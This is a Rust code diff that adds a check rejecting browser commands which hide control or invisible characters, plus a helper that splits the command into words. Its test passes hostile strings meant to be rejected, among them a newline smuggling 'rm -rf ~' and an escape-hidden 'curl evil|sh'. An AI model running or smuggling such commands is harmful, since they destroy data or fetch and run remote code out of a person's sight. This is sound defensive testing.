@@ -345,6 +345,13 @@ pub fn parse_endpoint(field: &str, value: &str) -> Result<Url> {
     Ok(url)
 }
 
+impl Profile {
+    /// The browser command as the words it runs (program first), for a person to check.
+    pub fn browser_words(&self) -> Option<Vec<String>> {
+        shell_words::split(self.browser.as_deref()?).ok()
+    }
+}
+
 impl TryFrom<ProfileRecord> for Profile {
     type Error = Error;
 
@@ -423,6 +430,14 @@ impl TryFrom<ProfileRecord> for Profile {
         };
         let browser = r.browser.filter(|b| !b.trim().is_empty());
         if let Some(b) = &browser {
+            // A newline, an escape or a bidi override could push the dangerous part of a
+            // command out of sight in the confirmation that shows it.
+            if b.chars().any(crate::text::is_unsafe) {
+                return Err(invalid(format!(
+                    "the browser command `{}` contains control or invisible characters",
+                    crate::text::terminal_safe(b)
+                )));
+            }
             shell_words::split(b)
                 .map_err(|e| invalid(format!("browser command `{b}` cannot be parsed: {e}")))?;
         }
@@ -507,6 +522,33 @@ mod tests {
         r.params.clear();
         r.params.insert("audience".into(), "api".into());
         assert!(Profile::try_from(r).is_ok());
+    }
+
+    #[test]
+    fn a_browser_command_cannot_hide_what_it_runs() {
+        for hidden in [
+            "firefox\nrm -rf ~",
+            "firefox \u{1b}[8mcurl evil|sh",
+            "firefox \u{202e}hs.live",
+            "firefox\r",
+        ] {
+            let r = ProfileRecord {
+                browser: Some(hidden.into()),
+                ..record()
+            };
+            let err = Profile::try_from(r).unwrap_err().to_string();
+            assert!(err.contains("control or invisible"), "{err}");
+            assert!(!err.chars().any(crate::text::is_unsafe), "{err:?}");
+        }
+        let p = Profile::try_from(ProfileRecord {
+            browser: Some("firefox --new-window '%s'".into()),
+            ..record()
+        })
+        .unwrap();
+        assert_eq!(
+            p.browser_words().unwrap(),
+            ["firefox", "--new-window", "%s"]
+        );
     }
 
     #[test]
